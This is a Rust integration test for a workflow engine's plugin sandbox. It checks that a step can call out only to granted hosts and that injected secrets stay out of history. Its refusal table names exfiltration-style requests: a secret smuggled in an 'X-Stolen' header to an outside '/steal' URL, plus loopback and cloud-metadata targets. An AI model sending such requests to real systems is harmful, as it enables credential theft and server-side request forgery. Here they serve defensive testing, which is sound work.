//! Steps call out only where granted: a real journeyd runs a step plugin
//! (`fixture_caller`) that makes `wasi:http` requests, against a real local
//! provider.

use std::time::Duration;

use journey_tests::{Journeyd, ProviderSink, fixture};
use serde_json::{Value, json};

const KEY: &str = "SG.outbound-secret-5678";

/// Deploy a one-step journey `name` (triggered by `name.requested`) whose
/// `caller` step posts to `url` with `headers`, once (no retries).
fn deploy_call(journeyd: &Journeyd, name: &str, url: &str, headers: &[(&str, &str)]) {
    let headers: Vec<Value> = headers
        .iter()
        .map(|(header, value)| json!([header, value]))
        .collect();
    let body = json!({
        "personalizations": [{ "to": [{ "email": "ada@example.com" }] }],
        "subject": "From a step",
        "content": [{ "type": "text/plain", "value": "called from a step" }],
    })
    .to_string();
    let source = format!(
        r#"
name = "{name}"
terminal = ["done", "gave_up"]

[trigger]
event = "{name}.requested"
correlation_key = "n"

[[steps]]
name = "call"
plugin = "caller"
on = {{ ok = "done", error = "gave_up" }}
retry = {{ attempts = 1 }}
[steps.config]
url = "{url}"
headers = {headers}
body = {body}
"#,
        headers = serde_json::to_string(&headers).expect("json"),
        body = toml_string(&body),
    );
    let (status, answer) = journeyd.deploy(&format!("{name}.toml"), &source);
    assert_eq!(status, 201, "{answer}");
}

/// A TOML basic string holding `text`.
fn toml_string(text: &str) -> String {
    serde_json::to_string(text).expect("a JSON string is a TOML basic string")
}

/// Start journey `name` once and wait for its instance to finish.
fn run(journeyd: &Journeyd, name: &str, n: u32) -> Value {
    let (status, receipt) = journeyd.send_event(&json!({
        "id": format!("{name}-{n}"),
        "type": format!("{name}.requested"),
        "customer": "c-1",
        "data": { "n": format!("{n}") },
    }));
    assert_eq!(status, 202, "{receipt}");
    let id = receipt["instances"][0].as_u64().expect("an instance");
    journeyd.wait_instance(id, Duration::from_secs(30))
}

#[test]
fn a_step_reaches_only_granted_hosts_with_secrets_it_never_holds() {
    let dir = tempfile::tempdir().expect("temp dir");
    let sink = ProviderSink::start(&["--sendgrid-key", KEY]);
    let journeyd = Journeyd::start(&dir.path().join("store"));
    let (status, body) = journeyd.push("caller", fixture("caller"));
    assert_eq!(status, 201, "{body}");
    let granted_url = format!("{}/v3/mail/send", sink.url);
    let authorization = ("Authorization", "Bearer {{secret:api_key}}");
    deploy_call(&journeyd, "granted", &granted_url, &[authorization]);

    // Deny by default: nothing is granted yet.
    let refused = run(&journeyd, "granted", 1);
    assert_eq!(refused["status"], "failed", "{refused:#}");
    let failure = refused["failure"].as_str().unwrap_or("");
    assert!(failure.contains("is granted no hosts"), "{failure}");
    assert!(sink.messages().is_empty());

    // Granted: the request goes out with the secret filled in by the host
    // and the step's idempotency key.
    let secret = dir.path().join("api-key");
    std::fs::write(&secret, KEY).expect("write the secret");
    let (status, body) = journeyd.request(
        "PUT",
        "/v1/plugins/caller/grant",
        Some(
            json!({
                "hosts": [sink.host()],
                "secrets": { "api_key": format!("file:{}", secret.display()) },
                "timeout_ms": 2000,
            })
            .to_string()
            .into_bytes(),
        ),
    );
    assert_eq!(status, 200, "{body}");
    let done = run(&journeyd, "granted", 2);
    assert_eq!(
        (&done["status"], &done["state"]["status"]),
        (&json!("completed"), &json!(202)),
        "{done:#}"
    );
    let taken = sink.messages();
    assert_eq!(taken.len(), 1, "{taken:#?}");
    let key = taken[0]["idempotency_key"].as_str().expect("a key");
    assert!(
        key.starts_with(&format!("i-{}/", done["id"])),
        "the step's idempotency key: {key}"
    );
    assert!(
        !done.to_string().contains(KEY),
        "the secret is not in history"
    );

    // Not granted, loopback, cloud metadata, a secret smuggled elsewhere:
    // refused before anything is sent; the step fails naming the host.
    for (name, url, headers, host) in [
        (
            "elsewhere",
            "http://198.51.100.7/collect",
            vec![],
            "198.51.100.7",
        ),
        (
            "loopback",
            "http://127.0.0.1:9/admin",
            vec![],
            "127.0.0.1:9",
        ),
        (
            "metadata",
            "http://169.254.169.254/latest/meta-data/",
            vec![],
            "169.254.169.254",
        ),
        (
            "smuggle",
            "http://198.51.100.7/steal",
            vec![("X-Stolen", "{{secret:api_key}}")],
            "198.51.100.7",
        ),
    ] {
        deploy_call(&journeyd, name, url, &headers);
        let view = run(&journeyd, name, 1);
        assert_eq!(view["status"], "failed", "{name}: {view:#}");
        let failure = view["failure"].as_str().unwrap_or("");
        assert!(
            failure.contains(&format!("`{host}` refused: not granted to plugin `caller`")),
            "{name}: {failure}"
        );
        assert!(!view.to_string().contains(KEY), "{name}: {view:#}");
    }
    assert_eq!(
        sink.messages().len(),
        1,
        "nothing more reached the provider"
    );

    // Revoked: denied again.
    let (status, body) = journeyd.request(
        "PUT",
        "/v1/plugins/caller/grant",
        Some(json!({ "hosts": [] }).to_string().into_bytes()),
    );
    assert_eq!((status, &body["grant"]), (200, &Value::Null), "{body}");
    assert_eq!(run(&journeyd, "granted", 3)["status"], "failed");

    // A grant naming an unreadable secret or a bad host changes nothing.
    for grant in [
        json!({ "hosts": ["no such host!"] }),
        json!({ "hosts": [sink.host()], "secrets": { "k": "env:JOURNEYD_TEST_SURELY_UNSET" } }),
    ] {
        let (status, body) = journeyd.request(
            "PUT",
            "/v1/plugins/caller/grant",
            Some(grant.to_string().into_bytes()),
        );
        assert_eq!(
            (status, &body["error"]["code"]),
            (422, &json!("invalid_grant")),
            "{body}"
        );
    }
}
